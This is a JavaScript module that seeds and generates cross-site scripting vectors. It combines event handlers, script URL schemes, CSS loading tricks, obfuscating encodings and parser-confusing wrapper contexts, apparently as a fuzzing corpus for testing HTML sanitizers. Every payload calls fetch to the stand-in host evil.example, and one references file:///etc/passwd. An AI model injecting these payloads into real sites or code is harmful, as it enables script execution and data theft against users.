// Hostile markup, made here from what it is made of: elements, events, schemes, encodings, and contexts in which a
// parser may see something else than the one before it. The same seed makes the same vectors.
//
// Each says where it came from: whatever runs sets `stolen` to its number, whatever loads asks evil.example for it.

const SCRIPT = (n) => `stolen=${n};fetch('http://evil.example/f${n}')`;
const LOAD = (n) => `http://evil.example/${n}`;

const EVENTS = [
  'onload', 'onerror', 'onclick', 'onfocus', 'onblur', 'onmouseover', 'onpointerenter', 'onanimationstart', 'onanimationend',
  'ontransitionend', 'ontoggle', 'onbeforetoggle', 'onbegin', 'onend', 'onrepeat', 'onresize', 'onscroll', 'onscrollend', 'onwheel',
  'onpageshow', 'onhashchange', 'onmessage', 'onstart', 'onfinish', 'onbounce', 'onloadstart', 'onloadeddata', 'oncanplay', 'onplay',
  'ontimeupdate', 'onformdata', 'oninvalid', 'oninput', 'oncopy', 'onselectionchange', 'onslotchange', 'oncuechange', 'onsecuritypolicyviolation',
  'oncontentvisibilityautostatechange', 'onbeforematch', 'ONLOAD', 'oNeRRor',
];

// Elements that fire an event, some of them without anybody touching them.
const FIRING = [
  '<img src=x EV>', '<img/src=x/EV>', '<img src=x EV', '<img srcset=x EV>', '<image src=x EV>', '<svg EV>', '<svg/EV>', '<body EV>', '<html EV>',
  '<video src=x EV></video>', '<video><source src=x EV></video>', '<audio src=x EV controls autoplay></audio>', '<input autofocus EV>',
  '<input type=image src=x EV>', '<select autofocus EV><option>x</select>', '<textarea autofocus EV>x</textarea>', '<button autofocus EV>x</button>',
  '<details open EV><summary>x</summary></details>', '<marquee EV>x</marquee>', '<iframe src=about:blank EV></iframe>', '<object data=x EV></object>',
  '<embed src=x EV>', '<link rel=stylesheet href=x EV>', '<style EV>a{}</style>', '<script src=x EV></script>', '<a href=# autofocus EV>x</a>',
  '<div tabindex=1 autofocus EV style=animation-name:x>x</div>', '<p contenteditable autofocus EV>x</p>', '<xss EV autofocus tabindex=1>x</xss>',
  '<dialog open EV>x</dialog>', '<div popover EV>x</div>', '<track src=x EV>', '<form EV><input required></form>', '<math EV><mi>x</mi></math>',
  '<svg><animate attributeName=x dur=1s EV /></svg>', '<svg><set attributeName=x EV /></svg>', '<svg><image href=x EV /></svg>',
  '<svg><a EV><text y=9>x</text></a></svg>', '<table EV><tr><td>x</table>', '<meter EV>x</meter>', '<area shape=default EV>', '<frameset EV>', '<portal EV>',
];

// Places for an address that would be followed, loaded or run.
const PLACES = [
  '<a href=URL>x</a>', '<a xlink:href=URL>x</a>', '<a href=# ping=URL>x</a>', '<area href=URL>', '<base href=URL>', '<form action=URL><input></form>',
  '<form><button formaction=URL>x</button></form>', '<input type=submit formaction=URL>', '<iframe src=URL></iframe>', '<iframe srcdoc=URL></iframe>',
  '<frame src=URL>', '<embed src=URL>', '<object data=URL></object>', '<object><param name=src value=URL></object>', '<applet code=URL></applet>',
  '<img src=URL>', '<img srcset="URL 2x">', '<img src=x lowsrc=URL dynsrc=URL longdesc=URL usemap=URL>', '<picture><source srcset=URL><img></picture>',
  '<video src=URL poster=URL></video>', '<audio src=URL autoplay></audio>', '<source src=URL>', '<track src=URL default>', '<input type=image src=URL>',
  '<link rel=stylesheet href=URL>', '<link rel=preload as=image imagesrcset=URL>', '<link rel=prefetch href=URL>', '<link rel=dns-prefetch href=URL>',
  '<link rel=icon href=URL>', '<link rel=manifest href=URL>', '<link rel=modulepreload href=URL>', '<script src=URL></script>', '<script type=module src=URL></script>',
  '<meta http-equiv=refresh content="0;url=URL">', '<meta http-equiv=set-cookie content=URL>', '<body background=URL>', '<table background=URL><td background=URL>x</table>',
  '<svg><use href=URL /></svg>', '<svg><image xlink:href=URL /></svg>', '<svg><feImage href=URL /></svg>', '<svg><script href=URL /></svg>',
  '<svg><a xlink:href=URL><text y=9>x</text></a></svg>', '<svg><animate attributeName=href values=URL /></svg>', '<math href=URL><mi>x</mi></math>',
  '<math><maction actiontype=statusline xlink:href=URL>x</maction></math>', '<blockquote cite=URL>x</blockquote>', '<html manifest=URL>', '<bgsound src=URL>',
  '<isindex action=URL>', '<portal src=URL>', '<fencedframe src=URL></fencedframe>', '<speculationrules>URL</speculationrules>',
  '<script type=speculationrules>{"prefetch":[{"urls":["URL"]}]}</script>', '<script type=importmap>{"imports":{"x":"URL"}}</script>', '<noscript><img src=URL></noscript>',
];

const SCHEMES = [
  (n) => `javascript:${SCRIPT(n)}`, (n) => `JaVaScRiPt:${SCRIPT(n)}`, (n) => `vbscript:stolen=${n}`, (n) => `livescript:${SCRIPT(n)}`, (n) => `mocha:${SCRIPT(n)}`,
  (n) => `data:text/html,<script>parent.stolen=${n}</script>`, (n) => `data:text/html;base64,${btoa(`<script>parent.stolen=${n}</script>`)}`,
  (n) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.stolen=${n}'/>`, (n) => `view-source:javascript:${SCRIPT(n)}`,
  (n) => `blob:javascript:${SCRIPT(n)}`, (n) => `filesystem:http://evil.example/${n}`, (n) => `javascript://evil.example/%0a${SCRIPT(n)}`, (n) => `feed:javascript:${SCRIPT(n)}`,
  (n) => `jar:http://evil.example/${n}!/x`, (n) => `//evil.example/${n}`, (n) => `\\\\evil.example/${n}`, (n) => `/\\evil.example/${n}`, LOAD, LOAD, LOAD,
  (n) => `https:evil.example/${n}`, (n) => `ws://evil.example/${n}`, (n) => `ftp://evil.example/${n}`, (n) => `file:///etc/passwd?${n}`,
];

const refs = (make) => (text) => [...text].map((c) => (/[\w/.]/.test(c) ? make(c.codePointAt(0)) : c)).join('');
const ENCODINGS = [
  (text) => text, (text) => text, (text) => text, refs((c) => `&#${c};`), refs((c) => `&#${c}`), refs((c) => `&#x${c.toString(16)};`), refs((c) => `&#X000${c.toString(16)}`),
  (text) => text.replace(':', '&colon;'), (text) => text.replace('s', '&#115;').replace(':', '&#58;'), (text) => text.replace('a', 'a&Tab;').replace('c', 'c&NewLine;'),
  (text) => text.replace('v', 'v\t').replace('s', 's\n'), (text) => `\u0001${text}`, (text) => ` \u00a0${text}`, (text) => text.replace('r', 'r\u0000'), (text) => encodeURI(text),
  (text) => text.replace(/[:/]/g, encodeURIComponent), (text) => text.replace(/</g, '\\u003c').replace(/:/g, '\\x3a'), (text) => text.replace(/e/g, '\uff45'),
  (text) => text.replace(/s/g, '\u017f'), (text) => text.replace(/i/g, '\u0131'), (text) => text.toUpperCase().replace('EVIL.EXAMPLE', 'evil.example'), (text) => `\u202e${text}\u202c`,
  (text) => text.replace(/</g, '+ADw-').replace(/>/g, '+AD4-'), (text) => text.replace(/&/g, '&amp;').replace(/:/g, '&amp;colon;'),
];

const quote = [(value) => `"${value.replace(/"/g, '&quot;')}"`, (value) => `'${value.replace(/'/g, '&#39;')}'`, (value) => value.replace(/[\s>]/g, ''), (value) => `\`${value}\``, (value) => `"${value}`];

const STYLES = [
  'background:url(URL)', 'background-image:\\75rl(URL)', 'list-style-image:url(URL)', 'content:url(URL)', 'cursor:url(URL),auto', 'border-image:url(URL)', 'mask:url(URL)', 'filter:url(URL#x)',
  'width:expression(stolen=1)', '-moz-binding:url(URL)', 'behavior:url(URL)', 'background:image-set("URL" 1x)', '--x:url(URL);background:var(--x)', 'position:fixed;inset:0;z-index:9;background:url(URL)',
  '@import "URL"', '@import url(URL);', '@font-face{font-family:x;src:url(URL)}*{font-family:x}', '@namespace url(URL);', '@media all{*{background:url(URL)}}', '@keyframes x{to{background:url(URL)}}*{animation:x 1s}',
];
const SHEETS = ['<p style=CSS>x</p>', '<style>p{CSS}</style>', '<style>CSS</style>', '<svg><style>CSS</style></svg>', '<math><style>CSS</style></math>', '<div style=CSS class=site-header id=main>x</div>', '<link rel=stylesheet href="data:text/css,CSS">', '<font style=CSS>x</font>'];

// What stands around a vector, so that one parser takes it for text and the next for markup.
const CONTEXTS = [
  'V', 'V', 'V', 'V', '<p>V', '<b>V</i>', '<table>V</table>', '<table><tr><td>V', '<table><caption>V<table>V', '<select>V</select>', '<select><option>V', '<svg>V</svg>', '<svg><desc>V', '<svg><title>V', '<svg><foreignObject>V',
  '<svg></p><style><a id="</style>V">', '<math>V', '<math><mtext>V', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;V">', '<math><annotation-xml encoding=text/html>V', '<form><math><mtext></form><form><mglyph><style></math>V',
  '<noscript><p title="</noscript>V">', '<noembed><p title="</noembed>V">', '<noframes>V', '<xmp><p title="</xmp>V">', '<textarea></textarea>V', '<title><p title="</title>V">', '<style><p title="</style>V">', '<iframe><p title="</iframe>V">',
  '<template>V</template>', '<template shadowrootmode=open>V</template>', '<!-->V-->', '<!--!>V--!>', '<!-- --!>V', '<![CDATA[>V]]>', '<?xml >V?>', '<!DOCTYPE x [>V', '<!--[if IE]>V<![endif]-->', '</br V', '<a title="V">x</a>', "<a title='V'>x</a>",
  '<img alt="V" src=y>', '<abbr title="><V">x</abbr>', '"><V', "'><V", '-->V', ']]>V', '</style>V', '</script>V', '</textarea></title></select></template>V', '</main></body></html>V', '<plaintext/>V', '<a><a>V', '<h1><h2><a><h3>V', '<ruby><rt><rp>V',
  '<frameset>V', '<nobr><nobr>V', '<li><ul><li>V', '<dl><dd><dt>V', '<pre>\n\nV', '<listing>V</listing>', '<x-y is=V>x</x-y>', '<object><object>V', '<font color=V>x</font>', '<time datetime="V">x</time>', '&lt;V', '&amp;lt;V', '<<V', '<\u0000V', '<%V%>', '{{V}}', '${V}',
];

// A generator of numbers that is the same everywhere.
function dice(seed) {
  let state = seed;
  return (below) => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return Math.floor((state / 2 ** 32) * below);
  };
}

// So many vectors, each another.
export function vectors(count, seed = 1) {
  const roll = dice(seed);
  const pick = (list) => list[roll(list.length)];
  const made = new Map();
  const kinds = [
    (n) => pick(FIRING).replace('EV', () => `${pick(EVENTS)}=${pick(quote)(pick(ENCODINGS)(SCRIPT(n)))}`),
    (n) => {
      const url = pick(ENCODINGS)(pick(SCHEMES)(n));
      const quoted = pick(quote)(url);
      return pick(PLACES).replace(/(["'])?([^"'=]*)URL/g, (whole, open, before) => (open || before ? `${open ?? ''}${before}${url.replace(/"/g, '&quot;')}` : quoted)).replace(/URL/g, url);
    },
    (n) => pick(SHEETS).replace('CSS', () => pick(STYLES).replace(/URL/g, pick(ENCODINGS)(LOAD(n)))),
    (n) => `<script>${pick(ENCODINGS)(SCRIPT(n))}</script>`,
    (n) => pick([`<scr<script>ipt>${SCRIPT(n)}</script>`, `<script/x>${SCRIPT(n)}</script\t>`, `<ſcript>${SCRIPT(n)}</ſcript>`, `<svg:script>${SCRIPT(n)}</svg:script>`, `<script>/*${'-'.repeat(roll(9))}*/${SCRIPT(n)}`, `<SCRIPT SRC=${LOAD(n)}>`]),
  ];
  while (made.size < count) {
    const n = made.size;
    const kind = kinds[[0, 0, 0, 0, 1, 1, 1, 1, 2, 2, 3, 4][roll(12)]];
    const vector = pick(CONTEXTS).replace(/V/g, () => kind(n));
    if (!made.has(vector)) made.set(vector, n);
  }
  return [...made.keys()];
}
